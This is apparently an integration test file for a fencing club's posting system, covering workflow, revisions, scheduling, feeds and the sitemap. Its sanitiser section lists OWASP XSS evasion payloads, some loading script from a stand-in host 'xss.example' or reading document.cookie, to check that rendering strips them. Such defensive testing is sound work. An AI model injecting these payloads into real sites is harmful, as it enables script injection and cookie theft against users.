import { eq } from 'drizzle-orm'
import { XMLParser } from 'fast-xml-parser'
import { beforeAll, describe, expect, it } from 'vitest'
import type { TestClub } from '../support/fixtures'
import { db, makeClub, schema, tableCounts } from '../support/fixtures'
import { BASE_URL, Client } from '../support/http'
import type { PublishedPool } from '../support/posts'
import { FOUR, activeParts, insertClip, publishedPool } from '../support/posts'
import { as, drawPools, makeFixture } from '../support/tournament'

// Breakdown posts against the built app and PostgreSQL: the workflow by role, the version check,
// revisions, scheduled publishing, rendering with embeds and the sanitiser, the feeds and the
// sitemap. All names are invented.

let club: TestClub
let commentator: Client
let editor: Client
let admin: Client
let organizer: Client
let pool: PublishedPool
const posts = () => `/api/clubs/${club.id}/posts`
const OWN_PLAYER = new RegExp(`^${BASE_URL.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}/embed/clips/\\d+$`)

const xml = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@' })
const list = <T>(value: T | T[] | undefined): T[] => (value === undefined ? [] : Array.isArray(value) ? value : [value])

async function newPost(client: Client, input: Record<string, unknown> = {}) {
  const res = await client.post(posts(), { title: 'Pool two, bout by bout', summary: 'How the pool was won', body: 'First draft.', ...input })
  expect(res.status, res.text).toBe(201)
  return res.data
}

async function publish(post: { id: number, version: number }, publishAt: string | null = null) {
  const res = await editor.post(`${posts()}/${post.id}/status`, { expectedVersion: post.version, to: 'published', publishAt })
  expect(res.status, res.text).toBe(200)
  return res.data
}

const publicList = async () => (await new Client().get(`/api/public/posts/${club.slug}?limit=50`)).data.posts as { slug: string }[]

beforeAll(async () => {
  club = await makeClub('posts')
  ;[commentator, editor, admin, organizer] = await Promise.all([as(club, 'commentator'), as(club, 'editor'), as(club, 'admin'), as(club, 'organizer')])
  pool = await publishedPool(club, organizer)
})

describe('breakdown workflow', () => {
  it('lets a commentator write and submit, and an editor publish; then readers see it', async () => {
    const created = await newPost(commentator)
    expect(created).toMatchObject({ status: 'draft', version: 1, slug: 'pool-two-bout-by-bout', authorId: club.members.commentator.id })
    const edited = await commentator.patch(`${posts()}/${created.id}`, { expectedVersion: 1, body: 'Second draft.' })
    expect(edited.status).toBe(200)
    expect(edited.data).toMatchObject({ version: 2, body: 'Second draft.' })
    expect((await commentator.post(`${posts()}/${created.id}/status`, { expectedVersion: 2, to: 'published' })).status).toBe(403)
    const submitted = await commentator.post(`${posts()}/${created.id}/status`, { expectedVersion: 2, to: 'review' })
    expect(submitted.data).toMatchObject({ status: 'review', version: 3 })
    // In review the text is the editors'.
    expect((await commentator.patch(`${posts()}/${created.id}`, { expectedVersion: 3, body: 'Late change' })).status).toBe(403)
    expect(await publicList()).not.toContainEqual(expect.objectContaining({ slug: created.slug }))

    const published = await publish(submitted.data)
    expect(published).toMatchObject({ status: 'published', stage: 'live' })
    expect(await publicList()).toContainEqual(expect.objectContaining({ slug: created.slug, title: 'Pool two, bout by bout' }))
    const page = await new Client().get(`/api/public/posts/${club.slug}/${created.slug}`)
    expect(page.status).toBe(200)
    expect(page.data.post.html).toContain('<p>Second draft.</p>')
    // The mail worker owns announced_at: publishing leaves it empty for it to find.
    const [row] = await db.select().from(schema.posts).where(eq(schema.posts.id, created.id))
    expect(row!.announcedAt).toBeNull()
    expect(row!.publishedBy).toBe(club.members.editor.id)

    const back = await admin.post(`${posts()}/${created.id}/status`, { expectedVersion: published.version, to: 'draft' })
    expect(back.data).toMatchObject({ status: 'draft', publishedAt: null })
    expect((await new Client().get(`/api/public/posts/${club.slug}/${created.slug}`)).status).toBe(404)
  })

  it('keeps the posts to commentators, editors and admins, and a commentator to their own drafts', async () => {
    const mine = await newPost(editor, { title: 'Editor’s notes on the final' })
    expect((await commentator.patch(`${posts()}/${mine.id}`, { expectedVersion: 1, body: 'Not mine' })).status).toBe(403)
    expect((await commentator.post(`${posts()}/${mine.id}/status`, { expectedVersion: 1, to: 'review' })).status).toBe(403)
    expect((await organizer.get(posts())).status).toBe(403)
    expect((await new Client().get(posts())).status).toBe(401)
    const stranger = await makeClub('posts-other')
    expect((await (await as(stranger, 'editor')).get(`${posts()}/${mine.id}`)).status).toBe(404)
    const listed = await commentator.get(`${posts()}?status=draft`)
    expect(listed.data.canPublish).toBe(false)
    expect(listed.data.posts.every((p: { status: string }) => p.status === 'draft')).toBe(true)
  })

  it('answers a save on an old version with 409 and the post as it is now', async () => {
    const post = await newPost(commentator, { title: 'Two saves at once' })
    expect((await editor.patch(`${posts()}/${post.id}`, { expectedVersion: 1, title: 'The editor’s title' })).status).toBe(200)
    const late = await commentator.patch(`${posts()}/${post.id}`, { expectedVersion: 1, body: 'My late body' })
    expect(late.status).toBe(409)
    expect(late.data.message).toMatch(/^expectedVersion: /)
    expect(late.data.data.current).toMatchObject({ version: 2, title: 'The editor’s title', body: 'First draft.' })
  })

  it('refuses bad input with a 4xx naming the field, and changes nothing', async () => {
    const post = await newPost(commentator, { title: 'Bad input' })
    const before = await tableCounts()
    const cases: [Promise<{ status: number, data: { message: string } }>, number, RegExp][] = [
      [commentator.post(posts(), { summary: 'no title' }), 400, /^title: /],
      [commentator.post(posts(), { title: 'x' }), 400, /^title: /],
      [commentator.post(posts(), { title: 'Fine title', colour: 'red' }), 400, /Unknown field: colour/],
      [commentator.post(posts(), { title: 'Fine title', eventId: 2147483000 }), 400, /^eventId: /],
      [commentator.post(posts(), { title: 'Fine title', body: 'x'.repeat(60_001) }), 400, /^body: /],
      [commentator.request('POST', posts(), { body: 'title=x', headers: { 'content-type': 'text/plain' } }), 415, /^body: /],
      [commentator.patch(`${posts()}/${post.id}`, { title: 'No version' }), 400, /^expectedVersion: /],
      [commentator.patch(`${posts()}/abc`, { expectedVersion: 1 }), 400, /^postId: /],
      [commentator.patch(`${posts()}/999999`, { expectedVersion: 1 }), 404, /not found/],
      [editor.post(`${posts()}/${post.id}/status`, { expectedVersion: 1, to: 'archived' }), 400, /^to: /],
      [editor.post(`${posts()}/${post.id}/status`, { expectedVersion: 1, to: 'published', publishAt: 'next tuesday' }), 400, /^publishAt: /],
      [editor.post(`${posts()}/${post.id}/status`, { expectedVersion: 1, to: 'review', publishAt: '2030-01-01T10:00:00Z' }), 400, /^publishAt: /],
      [editor.post(`${posts()}/${post.id}/status`, { expectedVersion: 1, to: 'published', publishAt: '2020-01-01T10:00:00Z' }), 400, /^publishAt: .*future/],
      [editor.post(`${posts()}/${post.id}/status`, { expectedVersion: 1, to: 'draft' }), 409, /^to: /],
      [editor.post(`${posts()}/${post.id}/revisions/99/restore`, { expectedVersion: 1 }), 404, /Revision not found/],
      [editor.get(`${posts()}?status=gone`), 400, /^status: /],
      [commentator.post(`${posts()}/preview`, { body: 42 }), 400, /^body: /],
    ]
    for (const [request, status, message] of cases) {
      const res = await request
      expect(res.status, JSON.stringify(res.data)).toBe(status)
      expect(res.data.message).toMatch(message)
    }
    expect(await tableCounts()).toEqual(before)
  })
})

describe('revisions', () => {
  it('writes a revision on every save, and restores an old text as a new revision', async () => {
    const post = await newPost(commentator, { title: 'Three versions', body: 'One' })
    await commentator.patch(`${posts()}/${post.id}`, { expectedVersion: 1, body: 'Two' })
    await commentator.patch(`${posts()}/${post.id}`, { expectedVersion: 2, body: 'Three', title: 'Three versions, revised' })
    const history = await commentator.get(`${posts()}/${post.id}/revisions`)
    expect(history.data.revisions.map((r: { number: number, body: string }) => [r.number, r.body])).toEqual([[3, 'Three'], [2, 'Two'], [1, 'One']])
    const restored = await commentator.post(`${posts()}/${post.id}/revisions/1/restore`, { expectedVersion: 3 })
    expect(restored.status).toBe(200)
    expect(restored.data).toMatchObject({ body: 'One', title: 'Three versions', version: 4 })
    const after = await commentator.get(`${posts()}/${post.id}/revisions`)
    expect(after.data.revisions).toHaveLength(4)
    expect(after.data.revisions[0]).toMatchObject({ number: 4, body: 'One' })
    expect((await commentator.post(`${posts()}/${post.id}/revisions/2/restore`, { expectedVersion: 3 })).status).toBe(409)
  })
})

describe('scheduled publishing', () => {
  it('keeps a scheduled breakdown off the site, the feeds and the sitemap until its time', async () => {
    const post = await newPost(commentator, { title: 'Saved for Sunday' })
    const at = new Date(Date.now() + 4000)
    const scheduled = await publish(post, at.toISOString())
    expect(scheduled).toMatchObject({ status: 'published', stage: 'scheduled' })
    expect(new Date(scheduled.publishedAt).getTime()).toBe(at.getTime())
    const reader = new Client()
    expect((await reader.get(`/api/public/posts/${club.slug}/${post.slug}`)).status).toBe(404)
    expect(await publicList()).not.toContainEqual(expect.objectContaining({ slug: post.slug }))
    expect((await reader.get(`/site/${club.slug}/feed.rss`)).text).not.toContain('Saved for Sunday')
    expect((await reader.get(`/site/${club.slug}/sitemap.xml`)).text).not.toContain(`/posts/${post.slug}<`)
    // Published once its time has passed, with nothing else done.
    await new Promise(resolve => setTimeout(resolve, Math.max(0, at.getTime() - Date.now()) + 300))
    expect((await reader.get(`/api/public/posts/${club.slug}/${post.slug}`)).status).toBe(200)
    expect((await reader.get(`/site/${club.slug}/feed.atom`)).text).toContain('Saved for Sunday')
  })
})

describe('rendering and the sanitiser', () => {
  const preview = async (body: string) => {
    const res = await commentator.post(`${posts()}/preview`, { body })
    expect(res.status, res.text).toBe(200)
    return res.data.html as string
  }

  it('renders a clip as our player, a pool table and a match from live data, and a card with its alt text', async () => {
    const { fixture, poolNumber, matchId, clipId } = pool
    const html = await preview(`## Pool ${poolNumber}\n\n[[clip ${clipId}]]\n\n[[pool ${fixture.tournamentId} ${poolNumber}]]\n[[match ${matchId}]]\n[[card match ${matchId}]]`)
    expect(html).toContain(`<iframe src="${BASE_URL}/embed/clips/${clipId}" title="Clip: Crane’s low parry, bout two"`)
    expect(html).toMatch(/<table><caption>Sword and buckler, pool \d \(still being fenced\)<\/caption>/)
    for (const name of ['Hedda Crane', 'Alder Mossley', 'Bryony Tallis', 'Cobb Wetherell']) expect(html).toContain(`<th scope="row">${name}</th>`)
    const score = new RegExp(`<p class="embed-score"><a href="[^"]+/site/${club.slug}/matches/${matchId}" rel="nofollow noopener">[^<]+ (\\d+) – (\\d+) [^<]+</a></p><p class="embed-meta">Pool \\d, match \\d · [^<]+ won</p>`).exec(html)
    expect(score, html).not.toBeNull()
    expect(Number(score![1])).toBeGreaterThan(Number(score![2]))
    expect(html).toMatch(new RegExp(`<img src="[^"]+/cards/og/${club.slug}/match/${matchId}\\.png" alt="Result card of [^"]+" width="1200" height="630"`))
    expect(activeParts(html, OWN_PLAYER)).toEqual([])
  })

  it('shows a short notice for embeds that are unknown, mistyped or not public', async () => {
    const other = await makeClub('posts-foreign')
    const hiddenClip = await insertClip(club, pool.fixture.eventId, null, 'Still cutting', 'queued')
    const foreignClip = await insertClip(other, pool.fixture.eventId, null, 'Another club’s clip')
    const html = await preview(`[[clip 2147483647]]\n[[clip ${hiddenClip}]]\n[[clip ${foreignClip}]]\n[[pool ${pool.fixture.tournamentId} 9]]\n[[match 2147483647]]\n[[card fighter 2147483647]]\n[[video 4]]`)
    expect(html.match(/class="embed embed-notice"/g)).toHaveLength(7)
    expect(html).toContain('This clip is not available.')
    expect(html).toContain('Not an embed we know: [[video 4]]')
    expect(html).not.toContain('<iframe')
  })

  // Vectors from the OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org), written
  // straight into the markdown, plus markdown's own ways to make a link or an image.
  const OWASP_VECTORS = [
    `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
    `<IMG SRC="javascript:alert('XSS');">`,
    `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
    `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
    '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
    `<a onmouseover="alert(document.cookie)">xxs link</a>`,
    `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
    `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
    `<IMG SRC=# onmouseover="alert('xxs')">`,
    `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
    `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
    `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
    `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
    `<IMG SRC="jav\tascript:alert('XSS');">`,
    `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
    `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
    `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
    `<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
    `<SCRIPT SRC=http://xss.example/xss.js?< B >`,
    `<iframe src=http://xss.example/scriptlet.html <`,
    `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
    `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
    `<BODY BACKGROUND="javascript:alert('XSS')">`,
    `<IMG DYNSRC="javascript:alert('XSS')">`,
    `<IMG LOWSRC="javascript:alert('XSS')">`,
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
    `<svg/onload=alert('XSS')>`,
    `<BODY ONLOAD=alert('XSS')>`,
    `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
    `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
    `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
    `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
    `<TABLE BACKGROUND="javascript:alert('XSS')">`,
    `<TD BACKGROUND="javascript:alert('XSS')">`,
    `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
    `<DIV STYLE="width: expression(alert('XSS'));">`,
    `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
    `<BASE HREF="javascript:alert('XSS');//">`,
    `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
    `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
    `<a href="jAvAsCrIpT&colon;alert(1)">colon entity</a>`,
    `<a href="&#x6A;avascript:alert(1)">hex start</a>`,
    `<form action="javascript:alert(1)"><button>x</button></form>`,
    `<iframe src="https://xss.example/embed/clips/1"></iframe>`,
    `<iframe src="//xss.example/embed/clips/1"></iframe>`,
    `<iframe src="/embed/clips/1?next=javascript:alert(1)"></iframe>`,
    `[markdown link](javascript:alert(1))`,
    `[encoded link](javascript&#58;alert(1))`,
    `![markdown image](javascript:alert(1))`,
    `[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
    `<details open ontoggle=alert(1)>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  ]

  it('leaves nothing active from the OWASP XSS Filter Evasion Cheat Sheet vectors', async () => {
    for (const vector of OWASP_VECTORS) {
      const html = await preview(`Before\n\n${vector}\n\nAfter`)
      expect(activeParts(html, OWN_PLAYER), `${vector}\n→ ${html}`).toEqual([])
      expect(html, vector).not.toMatch(/<\s*script/i)
    }
  })

  it('keeps ordinary markdown: headings, emphasis, lists, links and quotes', async () => {
    const html = await preview('# Heading\n\n**Bold** and _soft_, a [link](https://example.org/notes) and\n\n- one\n- two\n\n> A quote')
    expect(html).toContain('<h2>Heading</h2>')
    expect(html).toContain('<strong>Bold</strong>')
    expect(html).toContain('<a href="https://example.org/notes" rel="nofollow noopener">link</a>')
    expect(html).toContain('<li>one</li>')
    expect(html).toContain('<blockquote>')
  })
})

describe('feeds and the sitemap', () => {
  let live: { slug: string, title: string }

  beforeAll(async () => {
    const post = await newPost(commentator, { title: 'Feed & friends <together>', summary: 'A summary for the feed', body: `Pool below.\n\n[[pool ${pool.fixture.tournamentId} ${pool.poolNumber}]]` })
    await publish(post)
    live = post
  })

  it('serves RSS 2.0 with the channel and item elements the specification requires', async () => {
    const res = await new Client().get(`/site/${club.slug}/feed.rss`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toMatch(/^application\/rss\+xml/)
    const doc = xml.parse(res.text)
    // RSS 2.0 (RSS Advisory Board): channel title, link and description; an item needs a title or a description.
    expect(doc.rss['@version']).toBe('2.0')
    const channel = doc.rss.channel
    expect(channel.title).toBe(`${club.name}: breakdowns`)
    expect(channel.link).toBe(`${BASE_URL}/site/${club.slug}`)
    expect(typeof channel.description).toBe('string')
    const items = list(channel.item)
    const item = items.find((i: { title: string }) => i.title === 'Feed & friends <together>')
    expect(item).toBeDefined()
    expect(item.description).toBe('A summary for the feed')
    expect(item.link).toBe(`${BASE_URL}/site/${club.slug}/posts/${live.slug}`)
    expect(Number.isNaN(Date.parse(item.pubDate))).toBe(false)
    expect(item['content:encoded']).toContain('<table>')
    for (const i of items) expect(i.title ?? i.description).toBeTruthy()
  })

  it('serves Atom with the feed and entry elements RFC 4287 requires', async () => {
    const res = await new Client().get(`/site/${club.slug}/feed.atom`)
    expect(res.headers.get('content-type')).toMatch(/^application\/atom\+xml/)
    const feed = xml.parse(res.text).feed
    // RFC 4287 §4.1.1: exactly one id, title and updated; an author on the feed or on every entry.
    expect(feed['@xmlns']).toBe('http://www.w3.org/2005/Atom')
    expect(typeof feed.id).toBe('string')
    expect(feed.title['#text']).toBe(`${club.name}: breakdowns`)
    expect(Number.isNaN(Date.parse(feed.updated))).toBe(false)
    expect(feed.author.name).toBe(club.name)
    const entries = list(feed.entry)
    expect(entries.length).toBeGreaterThan(0)
    for (const entry of entries) {
      expect(Array.isArray(entry.id)).toBe(false)
      expect(entry.id).toMatch(/^http/)
      expect(entry.title['#text']).toBeTruthy()
      expect(Number.isNaN(Date.parse(entry.updated))).toBe(false)
      expect(entry.author.name).toBeTruthy()
    }
    expect(entries.map((e: { title: { '#text': string } }) => e.title['#text'])).toContain('Feed & friends <together>')
  })

  it('links both feeds from the club site', async () => {
    const res = await fetch(new URL(`/site/${club.slug}`, BASE_URL))
    const html = await res.text()
    expect(html).toMatch(new RegExp(`<link[^>]+rel="alternate"[^>]+type="application/rss\\+xml"[^>]+href="[^"]*/site/${club.slug}/feed\\.rss"`))
    expect(html).toMatch(new RegExp(`<link[^>]+rel="alternate"[^>]+type="application/atom\\+xml"[^>]+href="[^"]*/site/${club.slug}/feed\\.atom"`))
  })

  it('lists the club site, its live breakdowns, events and fighters in the sitemap', async () => {
    const res = await new Client().get(`/site/${club.slug}/sitemap.xml`)
    expect(res.status).toBe(200)
    // sitemaps.org protocol 0.9: urlset/url/loc, absolute addresses.
    const doc = xml.parse(res.text)
    expect(doc.urlset['@xmlns']).toBe('http://www.sitemaps.org/schemas/sitemap/0.9')
    const locs = list(doc.urlset.url).map((u: { loc: string }) => u.loc)
    expect(locs).toContain(`${BASE_URL}/site/${club.slug}`)
    expect(locs).toContain(`${BASE_URL}/site/${club.slug}/posts/${live.slug}`)
    expect(locs).toContain(`${BASE_URL}/site/${club.slug}/events/${pool.fixture.eventSlug}`)
    expect(locs.filter((l: string) => l.includes('/fighters/'))).toHaveLength(4)
    expect(locs.every((l: string) => l.startsWith(`${BASE_URL}/`))).toBe(true)
  })

  it('answers 404 for a club that does not exist', async () => {
    expect((await new Client().get('/site/no-such-club-here/feed.rss')).status).toBe(404)
    expect((await new Client().get('/site/no-such-club-here/sitemap.xml')).status).toBe(404)
  })
})

describe('the club site\'s fighter page', () => {
  it('shows a fighter\'s record across every published event of the club', async () => {
    const second = await makeFixture(club, organizer, { fighters: FOUR, poolSize: 4 })
    await drawPools(second)
    expect((await organizer.post(`/api/clubs/${club.id}/events/${second.eventId}/publish`)).status).toBe(200)
    const fighterId = (await organizer.get(`/api/clubs/${club.id}/fighters?q=${encodeURIComponent('Hedda Crane')}`)).data.fighters[0].id
    const res = await new Client().get(`/api/public/fighters/${club.slug}/${fighterId}`)
    expect(res.status).toBe(200)
    expect(res.data.results.map((r: { event: { slug: string } }) => r.event.slug).sort()).toEqual([pool.fixture.eventSlug, second.eventSlug].sort())
  })
})

describe('the club site\'s page memory', () => {
  const page = (path: string, client = new Client()) => client.request('GET', path, { headers: { accept: 'text/html' } })

  async function until(check: () => Promise<boolean>, what: string, timeoutMs = 15_000) {
    const deadline = Date.now() + timeoutMs
    while (!(await check())) {
      if (Date.now() > deadline) throw new Error(`${what} within ${timeoutMs} ms`)
      await new Promise(resolve => setTimeout(resolve, 250))
    }
  }

  it('serves a page from memory, and shows a change within seconds of it', async () => {
    const home = `/site/${club.slug}`
    const first = await page(home)
    const again = await page(home)
    expect(first.status).toBe(200)
    expect(['miss', 'hit', 'stale']).toContain(first.headers.get('x-site-cache'))
    expect(again.headers.get('x-site-cache')).toMatch(/^(hit|stale)$/)
    const post = await newPost(commentator, { title: 'Fresh from the ring' })
    const out = await publish(post)
    // FRESH_MS (5 s) until the next check, plus one stale answer while it renders again.
    await until(async () => (await page(home)).text.includes('Fresh from the ring'), 'the new breakdown on the home page')
    const postPage = `/site/${club.slug}/posts/${post.slug}`
    expect((await page(postPage)).status).toBe(200)
    await admin.post(`${posts()}/${post.id}/status`, { expectedVersion: out.version, to: 'draft' })
    await until(async () => (await page(postPage)).status === 404, 'the withdrawn breakdown gone')
  }, 60_000)

  it('renders afresh for signed-in members, who see their own header', async () => {
    const res = await page(`/site/${club.slug}`, editor)
    expect(res.status).toBe(200)
    expect(res.headers.get('x-site-cache')).toBeNull()
    expect(res.text).toContain('My clubs')
  })
})
